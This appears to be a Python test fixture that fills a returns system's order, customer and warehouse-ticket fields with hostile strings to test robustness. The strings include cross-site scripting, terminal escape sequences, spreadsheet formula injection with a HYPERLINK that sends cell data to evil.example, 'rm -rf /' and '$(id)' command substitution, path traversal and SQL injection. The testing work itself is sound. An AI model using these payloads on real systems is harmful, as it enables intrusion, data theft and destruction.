"""Texts that attack whoever shows them. With the setting `hostile` they stand in every text that a
customer, a brand or a warehouse can choose."""

from __future__ import annotations

from dataclasses import replace
from itertools import count
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

    from loop_sandbox.model import LoopReturn, Ticket

TEXTS = (
    "[bold red]x[/] [/nothing] [link=file:///etc/passwd]y[/link] \\[/] \\",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b]52;c;eA==\x07",
    "\x9b31m\x85next\x90q\x9c",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd|'x'!A0",
    "\t=1+1",
    "<img src=x onerror=alert(1)><b>bold</b>",
    "</title></textarea></script><script>alert(1)</script>",
    "'\"><svg/onload=alert(1)> javascript:alert(1)",
    "{{7*7}} ${7*7} <%= 7*7 %> {0.__class__} %s%n",
    "one\r\nX-Injected: yes\n2026-01-01T00:00:00Z [error    ] forged",
    "\u202egnp.exe\u2066 \u200b\ufeff\u2028 tag\U000e0041",
    "[click](javascript:alert(1)) ![x](http://evil.example/p.png) | a | b | `c` # d",
    "<http://evil.example|click> <!channel> @everyone &lt;b&gt; &#x3c;i&#x3e;",
    "nul\x00 back\x08\x08\x08 del\x7f bell\x07",
    "../../etc/passwd %2e%2e%2f ; rm -rf / $(id) `id`",
    "' OR 1=1 --",
    "z\u0301" * 300,
    "long " * 1000,
    "a" * 5000,
    "@" * 3000,
)


def spoil(r: LoopReturn) -> None:
    """Give a new return such texts; each return begins with others. What must be right for it to
    go its way (ids, states, SKUs, amounts) stays."""
    texts = _from(int(r.id))
    r.order_name = next(texts)
    r.customer = f"{next(texts)[:200]}@example.com"
    r.customer_name = next(texts)
    r.country = next(texts)
    r.package_reference = next(texts)
    for line in r.lines:
        line.product = replace(line.product, title=next(texts))
        line.reason, line.parent_reason = next(texts), next(texts)
        line.comment = next(texts)
    if r.label is not None:
        r.label.carrier, r.label.service, r.label.url = next(texts), next(texts), next(texts)


def spoil_ticket(ticket: Ticket) -> None:
    """What the warehouse's people write down. XML has no control characters."""
    texts = _from(len(ticket.id) + int("".join(filter(str.isdigit, ticket.id)) or 0))
    for name in ("Memo", "LicensePlate", "DriverName", "Carrier", "IMPORTSTATUSTEXT"):
        ticket.fields[name] = _for_xml(next(texts))
    for item in ticket.items:
        item.values["Comments"] = _for_xml(next(texts))
        item.values["ProductDescription"] = _for_xml(next(texts))


def _from(number: int) -> Iterator[str]:
    return (TEXTS[n % len(TEXTS)] for n in count(number))


def _for_xml(text: str) -> str:
    return "".join(c for c in text if c in "\t\n\r" or c >= " ")
